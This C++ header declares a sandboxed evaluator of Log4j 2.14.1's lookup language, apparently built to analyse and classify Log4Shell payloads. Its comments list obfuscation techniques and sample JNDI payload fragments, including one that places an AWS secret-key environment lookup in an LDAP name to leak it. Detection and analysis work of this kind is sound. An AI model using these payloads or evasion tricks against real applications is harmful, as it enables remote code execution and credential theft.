// A pure evaluator of Log4j 2.14.1's lookup language: text in, resolution out.
//
// It reimplements StrSubstitutor.substitute, Interpolator.lookup and the
// lookups of log4j-core 2.14.1 (whose StrSubstitutor and Interpolator are
// byte-identical in 2.15.0), with the victim's environment replaced by a
// LookupEnvironment, and is checked against the real jar by
// tests/log4j_differential. No I/O, no global state: safe to call from many
// threads, to fuzz, and to reuse for checking generated payloads.
//
// Two call paths exist in a vulnerable application:
//   kSubstitute  StrSubstitutor.replace(event, text): lookups in configuration
//                attributes evaluated per event, e.g. a `$${ctx:ua}` pattern
//                (CVE-2021-45046), and the building block of the message path.
//   kMessage     2.14.1's MessagePatternConverter (%m): after formatting the
//                message it walks it and, at every later "${", re-substitutes
//                the *whole* message. A "${" that appears during one pass (from
//                "$${", ${date:'$'}, ${x:-$}...) is evaluated by a later pass,
//                so `$${jndi:ldap://x/a} ${nope}` reaches JNDI.
//
// Work is bounded (EvalLimits): hostile input ends with kBudgetExceeded or
// kStackOverflow instead of exhausting time or memory.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <string_view>
#include <vector>

namespace l4s::hunt {

using StringMap = std::map<std::string, std::string, std::less<>>;

// What the lookups return on the (unknown) victim. The defaults are
// attacker-optimistic: anything the attacker cannot know is absent, so
// `${env:X:-j}` gives "j", and absent values inside a JNDI name stay literal
// (`${env:AWS_SECRET_ACCESS_KEY}`), which names the exfiltration target.
struct LookupEnvironment {
  // Whether the application has a configuration file (log4j2.xml, ...). Then
  // the Interpolator finds its lookups as plugins, which adds `bundle`,
  // `event`, `map` and `sd`; without one (DefaultConfiguration) those
  // prefixes are unknown and fall through to the properties.
  bool config_file = true;
  // The Interpolator's default lookup: configuration <Properties> plus the
  // LoggerContext's "hostName" and "contextName". Reached by `${name}` and by
  // any lookup whose prefix is unknown or returned nothing.
  StringMap properties = {{"hostName", "victim-host"}, {"contextName", "default"}};
  StringMap environment;  // ${env:NAME}
  // ${sys:NAME}. The separators are well-known values used for obfuscation
  // (`${sys:file.separator}` for "/"); they are not treated as exfiltration.
  StringMap system_properties = {{"file.separator", "/"}, {"path.separator", ":"},
                                 {"line.separator", "\n"}};
  // ${java:KEY}: JavaLookup knows exactly these keys and throws
  // IllegalArgumentException for any other, which drops the whole event.
  StringMap java = {{"version", "Java version 1.8.0_181"},
                    {"runtime", "Java(TM) SE Runtime Environment (build 1.8.0_181-b13) from Oracle Corporation"},
                    {"vm", "Java HotSpot(TM) 64-Bit Server VM (build 25.181-b13, mixed mode)"},
                    {"os", "Linux 5.10.0 unknown, architecture: amd64-64"},
                    {"hw", "processors: 2, architecture: amd64-64, instruction sets: amd64"},
                    {"locale", "default locale: en_US, platform encoding: UTF-8"}};
  StringMap thread_context;  // ${ctx:KEY} (MDC); attacker-controlled in CVE-2021-45046 setups
  // ${event:KEY}. "Message" is always the evaluated text itself and
  // "Timestamp" is time_millis; "Marker" and "Exception" are absent.
  StringMap event = {{"Level", "INFO"}, {"Logger", "com.example.App"}, {"ThreadName", "main"},
                     {"ThreadId", "1"}};
  // The event time, for ${date:PATTERN} (formatted in UTC, en_US).
  int64_t time_millis = 1639094400000;  // 2021-12-10T00:00:00Z
};

struct EvalLimits {
  uint64_t max_steps = 1u << 22;       // bytes scanned or copied over the whole evaluation (~5 ms)
  uint32_t max_depth = 1500;           // nested substitute() frames (Java overflows its stack later)
  size_t max_text = 1u << 20;          // largest intermediate text
  size_t max_recorded_calls = 256;     // JNDI calls kept in Evaluation::jndi_calls
};

enum class EvalPath { kSubstitute, kMessage };

enum class EvalOutcome {
  kCompleted,       // Log4j finished; `output` is the text it produced
  kInfiniteLoop,    // IllegalStateException "Infinite loop in property interpolation"
  kStackOverflow,   // unbounded recursion (StackOverflowError in Java), cut at max_depth
  kLookupError,     // a lookup threw (`${java:nope}`): Log4j drops the event
  kBudgetExceeded,  // our max_steps / max_text ran out; Log4j might still have finished
};

// Techniques seen while evaluating (bit flags; names from technique_names()).
enum Technique : uint32_t {
  kTechNestedLookup = 1u << 0,      // a lookup inside a lookup's name: ${${lower:j}ndi:...}
  kTechDefaultValue = 1u << 1,      // the ":-" default of an absent lookup was used: ${::-j}
  kTechEscapedDelimiter = 1u << 2,  // ":\-" in a lookup name
  kTechUnknownPrefix = 1u << 3,     // a prefix Log4j does not know: ${foo:bar:-j}
  kTechCaseLookup = 1u << 4,        // ${lower:...} / ${upper:...}
  kTechUnicodeCase = 1u << 5,       // case mapping turned non-ASCII into ASCII: ${upper:ı}
  kTechDateLookup = 1u << 6,        // ${date:'j'}, ${date:}
  kTechPrefixCase = 1u << 7,        // JNDI prefix not written "jndi": ${JnDi:...}
  kTechDollarEscape = 1u << 8,      // "$${" escape removed
  kTechEnvironmentLookup = 1u << 9, // env/sys/java/ctx/main/... lookups
  kTechSeparatorLookup = 1u << 10,  // ${sys:file.separator} and friends
  kTechEventLookup = 1u << 11,      // ${event:...}
  kTechRecursion = 1u << 12,        // infinite loop or unbounded recursion (DoS)
  kTechMessageRescan = 1u << 13,    // JNDI reached only through the %m rescan (set by Resolve)
  // Why an attempt stays inert (set by examine_line, never by the evaluator):
  kTechEscapedLookup = 1u << 14,    // "$${jndi:...}": Log4j prints the lookup instead of running it
  kTechUnterminatedLookup = 1u << 15,  // "${jndi:..." never closed: Log4j leaves it as text
  kTechNeedsDecoding = 1u << 16,    // encoded where nothing upstream of Log4j decodes it
};

// "nested_lookup", "default_value", ... for each bit set, in bit order.
std::vector<std::string> technique_names(uint32_t techniques);

struct Evaluation {
  EvalOutcome outcome = EvalOutcome::kCompleted;
  std::string output;                    // the substituted text (meaningful when kCompleted)
  std::vector<std::string> jndi_calls;   // names passed to JNDI, in call order (capped)
  uint64_t jndi_call_count = 0;          // all JNDI calls, including those past the cap
  std::vector<std::string> jndi_names;   // distinct names, in first-call order
  std::vector<std::string> exfiltrated;  // distinct lookups whose value would flow into a JNDI name
  uint32_t techniques = 0;
};

// Runs one call path over `text`.
Evaluation evaluate_lookups(std::string_view text, EvalPath path, const LookupEnvironment& env = {},
                           const EvalLimits& limits = {});

// The same over the tail of a message that starts at its first lookup (the
// literal text before it changes nothing but the length): `message` is the
// whole message, for ${event:Message} and the size limit.
Evaluation evaluate_lookups_in(std::string_view message, size_t tail_start, EvalPath path,
                               const LookupEnvironment& env = {}, const EvalLimits& limits = {});

// Both paths, exactly as the two calls above would give them, but the %m
// path's first re-substitution (the whole text, as the substitute path
// evaluates it) is taken from the substitute path instead of run twice.
void evaluate_both_paths_in(std::string_view message, size_t tail_start, const LookupEnvironment& env,
                            const EvalLimits& limits, Evaluation* substitute, Evaluation* message_path);

}  // namespace l4s::hunt
